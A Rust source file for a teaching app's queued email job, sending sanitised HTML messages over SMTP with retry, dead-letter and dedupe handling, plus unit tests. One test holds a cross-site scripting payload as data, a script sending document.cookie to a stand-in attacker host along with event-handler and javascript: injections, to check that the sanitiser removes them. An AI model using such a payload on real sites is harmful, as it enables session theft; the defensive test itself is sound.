//! Email: the `SendEmail` job of `accessor-queue`, sent over SMTP through Brevo's relay
//! (original-system.md §1.12 and §3: a teacher's message to a student, its body possibly
//! drafted by the AI).
//!
//! Why a queue job rather than a call in the request: SMTP is slow and fails transiently;
//! the consumer loop retries a `Retry` (a 4xx reply, a dropped connection, a timeout) after
//! the bus's backoff, so a relay that refuses for a while delays the mail rather than
//! dead-lettering it, and dead-letters a `Reject` (a malformed address, a 5xx reply) with the
//! reason, where an operator can resubmit it.
//!
//! An email goes out once per message id:
//! - the consumer checks its sent record (`bus_processed_messages`, keyed by the message id)
//!   before the handler runs, and writes it with the completion — in the same transaction on
//!   the PostgreSQL bus — so a redelivery of a sent email is completed without sending;
//! - a handler whose lock is lost is cancelled before the message's next holder can take it,
//!   so a stalled send cannot complete beside the next holder's;
//! - each send uses a connection of its own, closed after it (the pool keeps none idle): a
//!   cancelled send must not hand a connection stopped mid-command to the next one;
//! - the `Message-ID` header is derived from the message id, so the rare resend after a crash
//!   between sending and recording is one message to mail systems that deduplicate.
//!
//! The body is HTML (teachers format their emails, often an AI draft) and is sanitised here,
//! where it leaves, with `ammonia`: scripts, event handlers (`onerror`...), `javascript:`
//! links, forms, frames and styles are removed, the formatting stays. Sanitising at the last
//! step covers every way a body gets here (the API, an AI draft, a resubmitted dead letter,
//! emails queued before this existed). Plain text only was the alternative; it was not taken
//! because the original sent HTML and teachers' emails rely on its formatting.
//!
//! Transport security follows the port unless configured: 465 is TLS from the first byte,
//! anything else (Brevo's 587) must upgrade with STARTTLS before credentials are sent.
//! `none` exists for local relays and tests only.

use crate::consumer::{Consumer, Handler, HandlerError, MessageContext};
use async_trait::async_trait;
use lettre::message::header::ContentType;
use lettre::message::Mailbox;
use lettre::transport::smtp::authentication::Credentials;
use lettre::transport::smtp::PoolConfig;
use lettre::{AsyncSmtpTransport, AsyncTransport, Message, Tokio1Executor};
use serde::{Deserialize, Serialize};
use std::time::Duration;

/// The `accessor-queue` action (the original's name).
pub const SEND_EMAIL: &str = "SendEmail";
/// The longest subject accepted.
pub const MAX_SUBJECT_CHARS: usize = 250;
/// The largest body accepted (HTML).
pub const MAX_BODY_BYTES: usize = 256 * 1024;
const SMTP_TIMEOUT: Duration = Duration::from_secs(30);

/// The payload of `SendEmail`: one message to one recipient; the body is HTML.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct SendEmail {
    pub recipient_email: String,
    pub subject: String,
    pub body: String,
}

/// How the connection to the relay is protected.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SmtpSecurity {
    /// Plain connection upgraded with STARTTLS, which the server must offer (port 587).
    StartTls,
    /// TLS from the first byte (port 465).
    Tls,
    /// No encryption: a relay on this machine, tests.
    None,
}

impl SmtpSecurity {
    /// The default for a port: 465 is implicit TLS, anything else STARTTLS.
    pub fn for_port(port: u16) -> Self {
        if port == 465 {
            SmtpSecurity::Tls
        } else {
            SmtpSecurity::StartTls
        }
    }

    /// `starttls`, `tls` or `none`.
    pub fn parse(raw: &str) -> Option<Self> {
        match raw.to_ascii_lowercase().as_str() {
            "starttls" => Some(SmtpSecurity::StartTls),
            "tls" => Some(SmtpSecurity::Tls),
            "none" => Some(SmtpSecurity::None),
            _ => None,
        }
    }
}

/// The relay and the sender (Brevo's `BREVO_*` settings).
#[derive(Clone, PartialEq, Eq)]
pub struct EmailSettings {
    pub host: String,
    pub port: u16,
    pub security: SmtpSecurity,
    pub username: Option<String>,
    pub password: Option<String>,
    pub sender_email: String,
    pub sender_name: String,
}

impl std::fmt::Debug for EmailSettings {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("EmailSettings")
            .field("host", &self.host)
            .field("port", &self.port)
            .field("security", &self.security)
            .field("username", &self.username)
            .field("password", &self.password.as_ref().map(|_| "<hidden>"))
            .field("sender_email", &self.sender_email)
            .field("sender_name", &self.sender_name)
            .finish()
    }
}

/// Sends `SendEmail` jobs. Cheap to clone (the SMTP connection pool is shared).
#[derive(Clone)]
pub struct SendEmailHandler {
    transport: AsyncSmtpTransport<Tokio1Executor>,
    from: Mailbox,
    /// The domain of `Message-ID`s (the sender's).
    domain: String,
}

impl SendEmailHandler {
    /// Checks the sender and builds the SMTP client; nothing is sent or connected yet. Call it
    /// inside the Tokio runtime: the connection pool starts its reaper task there.
    pub fn from_settings(settings: &EmailSettings) -> Result<Self, String> {
        let address: lettre::Address = settings.sender_email.parse().map_err(|e| {
            format!(
                "sender `{}` is not an email address: {e}",
                settings.sender_email
            )
        })?;
        let domain = address.domain().to_string();
        let from = Mailbox::new(
            Some(settings.sender_name.clone()).filter(|n| !n.trim().is_empty()),
            address,
        );
        let mut builder = match settings.security {
            SmtpSecurity::StartTls => {
                AsyncSmtpTransport::<Tokio1Executor>::starttls_relay(&settings.host)
                    .map_err(|e| format!("SMTP host `{}`: {e}", settings.host))?
            }
            SmtpSecurity::Tls => AsyncSmtpTransport::<Tokio1Executor>::relay(&settings.host)
                .map_err(|e| format!("SMTP host `{}`: {e}", settings.host))?,
            SmtpSecurity::None => {
                AsyncSmtpTransport::<Tokio1Executor>::builder_dangerous(settings.host.clone())
            }
        }
        .port(settings.port)
        .timeout(Some(SMTP_TIMEOUT))
        // No idle connections: each send connects, and its connection is closed after it,
        // also when the send was cancelled half-way (see the module comment).
        .pool_config(PoolConfig::new().min_idle(0).max_size(0));
        if let (Some(user), Some(password)) = (&settings.username, &settings.password) {
            builder = builder.credentials(Credentials::new(user.clone(), password.clone()));
        }
        Ok(Self {
            transport: builder.build(),
            from,
            domain,
        })
    }

    /// The message `job` becomes; `message_key` is the bus message's dedupe key.
    pub fn compose(&self, job: &SendEmail, message_key: &str) -> Result<Message, HandlerError> {
        let to: Mailbox = job
            .recipient_email
            .trim()
            .parse::<lettre::Address>()
            .map(|a| Mailbox::new(None, a))
            // Not the address itself: the reason is kept with the dead letter and logged.
            .map_err(|e| {
                HandlerError::Reject(format!("the recipient is not an email address: {e}"))
            })?;
        let subject = job.subject.trim();
        if subject.is_empty() || subject.chars().count() > MAX_SUBJECT_CHARS {
            return Err(HandlerError::Reject(format!(
                "a subject has 1 to {MAX_SUBJECT_CHARS} characters"
            )));
        }
        if job.body.trim().is_empty() || job.body.len() > MAX_BODY_BYTES {
            return Err(HandlerError::Reject(format!(
                "a body has 1 to {MAX_BODY_BYTES} bytes"
            )));
        }
        let body = ammonia::clean(&job.body);
        if body.trim().is_empty() {
            return Err(HandlerError::Reject(
                "nothing of the body is left once sanitised".into(),
            ));
        }
        // Only characters a Message-ID may hold: a bus id is a UUID or similar.
        let local: String = message_key
            .chars()
            .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
            .collect();
        Message::builder()
            .from(self.from.clone())
            .to(to)
            .subject(subject)
            .message_id(Some(format!("<{local}@{}>", self.domain)))
            .date_now()
            .header(ContentType::TEXT_HTML)
            .body(body)
            .map_err(|e| HandlerError::Reject(format!("the message cannot be built: {e}")))
    }
}

#[async_trait]
impl Handler for SendEmailHandler {
    type Payload = SendEmail;

    async fn handle(&self, job: SendEmail, context: &MessageContext) -> Result<(), HandlerError> {
        let message = self.compose(&job, &context.dedupe_key)?;
        match self.transport.send(message).await {
            Ok(_) => {
                tracing::info!(message_id = %context.message_id, "email sent");
                Ok(())
            }
            Err(e) if e.is_permanent() => Err(HandlerError::Reject(format!(
                "the mail server refused the message: {e}"
            ))),
            Err(e) => Err(HandlerError::Retry(format!("sending failed: {e}"))),
        }
    }
}

/// Routes `SendEmail` on the accessor's `accessor-queue` consumer to `handler`.
pub fn register(consumer: Consumer, handler: SendEmailHandler) -> Consumer {
    consumer.on(SEND_EMAIL, handler)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn settings() -> EmailSettings {
        EmailSettings {
            host: "127.0.0.1".into(),
            port: 2525,
            security: SmtpSecurity::None,
            username: None,
            password: None,
            sender_email: "no-reply@teachin.app".into(),
            sender_name: "Teachin".into(),
        }
    }

    fn job() -> SendEmail {
        SendEmail {
            recipient_email: "shira@example.com".into(),
            subject: "Homework".into(),
            body: "<p>Read chapter 2.</p>".into(),
        }
    }

    #[test]
    fn the_payload_is_the_originals_camel_case() {
        let json = serde_json::json!({
            "recipientEmail": "a@example.com", "subject": "s", "body": "<p>b</p>"
        });
        let job: SendEmail = serde_json::from_value(json).unwrap();
        assert_eq!(job.recipient_email, "a@example.com");
    }

    #[tokio::test]
    async fn a_composed_message_carries_sender_recipient_html_and_a_stable_id() {
        let handler = SendEmailHandler::from_settings(&settings()).unwrap();
        let message = handler.compose(&job(), "0b1c-42").unwrap();
        let text = String::from_utf8(message.formatted()).unwrap();
        assert!(
            text.contains("From: Teachin <no-reply@teachin.app>"),
            "{text}"
        );
        assert!(text.contains("To: shira@example.com"), "{text}");
        assert!(text.contains("Subject: Homework"), "{text}");
        assert!(text.contains("Message-ID: <0b1c-42@teachin.app>"), "{text}");
        assert!(text.contains("Content-Type: text/html"), "{text}");
        assert!(text.contains("<p>Read chapter 2.</p>"), "{text}");
    }

    #[tokio::test]
    async fn the_body_is_sanitised_and_keeps_its_formatting() {
        let handler = SendEmailHandler::from_settings(&settings()).unwrap();
        let hostile = SendEmail {
            body: "<p onclick=\"steal()\">Read <b>chapter 2</b>.</p>\
                   <script>fetch('https://evil.example/?c='+document.cookie)</script>\
                   <img src=\"x\" onerror=\"alert(1)\">\
                   <a href=\"javascript:alert(2)\">here</a>"
                .into(),
            ..job()
        };
        let message = handler.compose(&hostile, "id").unwrap();
        let text = String::from_utf8(message.formatted()).unwrap();
        for gone in [
            "<script",
            "evil.example",
            "onerror",
            "onclick",
            "javascript:",
        ] {
            assert!(!text.contains(gone), "{gone} survived: {text}");
        }
        assert!(text.contains("<b>chapter 2</b>"), "{text}");
        let only_script = SendEmail {
            body: "<script>alert(1)</script>".into(),
            ..job()
        };
        assert!(matches!(
            handler.compose(&only_script, "id"),
            Err(HandlerError::Reject(_))
        ));
    }

    #[tokio::test]
    async fn what_can_never_be_sent_is_rejected_not_retried() {
        let handler = SendEmailHandler::from_settings(&settings()).unwrap();
        for bad in [
            SendEmail {
                recipient_email: "not an address".into(),
                ..job()
            },
            SendEmail {
                subject: "  ".into(),
                ..job()
            },
            SendEmail {
                subject: "x".repeat(MAX_SUBJECT_CHARS + 1),
                ..job()
            },
            SendEmail {
                body: String::new(),
                ..job()
            },
        ] {
            assert!(
                matches!(handler.compose(&bad, "id"), Err(HandlerError::Reject(_))),
                "{bad:?}"
            );
        }
        let e = SendEmailHandler::from_settings(&EmailSettings {
            sender_email: "nobody".into(),
            ..settings()
        })
        .err()
        .unwrap();
        assert!(e.contains("sender"), "{e}");
    }

    #[test]
    fn security_follows_the_port_unless_named() {
        assert_eq!(SmtpSecurity::for_port(465), SmtpSecurity::Tls);
        assert_eq!(SmtpSecurity::for_port(587), SmtpSecurity::StartTls);
        assert_eq!(
            SmtpSecurity::parse("STARTTLS"),
            Some(SmtpSecurity::StartTls)
        );
        assert_eq!(SmtpSecurity::parse("none"), Some(SmtpSecurity::None));
        assert_eq!(SmtpSecurity::parse("ssl"), None);
        assert!(!format!(
            "{:?}",
            EmailSettings {
                password: Some("secret-pass".into()),
                ..settings()
            }
        )
        .contains("secret-pass"));
    }
}
